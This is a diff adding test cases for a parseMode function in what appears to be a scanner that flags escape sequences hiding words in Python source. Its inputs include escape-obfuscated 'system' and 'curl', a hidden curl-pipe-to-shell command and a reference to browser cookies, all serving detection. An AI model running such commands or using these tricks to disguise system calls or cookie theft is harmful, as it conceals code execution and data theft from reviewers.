@@ -62,6 +62,28 @@ describe('parseMode', () => {
   });
 });
 
+describe('escapes', () => {
+  it('parses a module with an escape of an ASCII character or of whitespace', () => {
+    expect(parseMode(lines("x = getattr(os, 'sy\\x73tem')"))).toBe('full');
+    expect(parseMode(lines("x = 'a\\u0020b'"))).toBe('full');
+    expect(parseMode(lines("x = 'a\\u3000b'"))).toBe('full');
+    expect(parseMode(lines("x = 'a\\N{SPACE}b'"))).toBe('full');
+    expect(parseMode(lines("x = 'cu\\162l'"))).toBe('full');
+  });
+
+  it('skips translations and data tables whose escapes are of other characters', () => {
+    expect(parseMode(lines("NAMES = {'fr': u'R\\u00e9union', 'zh': u'\\u5317\\u4eac', 'pt': u'Dois Irm\\u00e3os'}"))).toBe('skip');
+    expect(parseMode(lines("CARRIERS = {'46731729': {'en': 'IPIFY LIMITED'}}"))).toBe('skip');
+    // `\\` is one escape: what follows it is text
+    expect(parseMode(lines("x = r'\\\\x41'"))).toBe('skip');
+  });
+
+  it('looks again with the escapes decoded, where one hides a word', () => {
+    expect(parseMode(lines("x = '\\u00e9curl -s https://example.org/x | sh'"))).toBe('full');
+    expect(parseMode(lines("x = 'Network\\U0001f600Cookies'"))).toBe('full');
+  });
+});
+
 describe('relevantRanges', () => {
   const filler = Array.from({ length: 300 }, (_, i) => lines(`@decorate(${i})`, `def helper_${i}(x, y=(1, 2)):`, '    """Adds things."""', `    return x + y[0] + ${i}  # (not a bracket`, '')).join('');
 
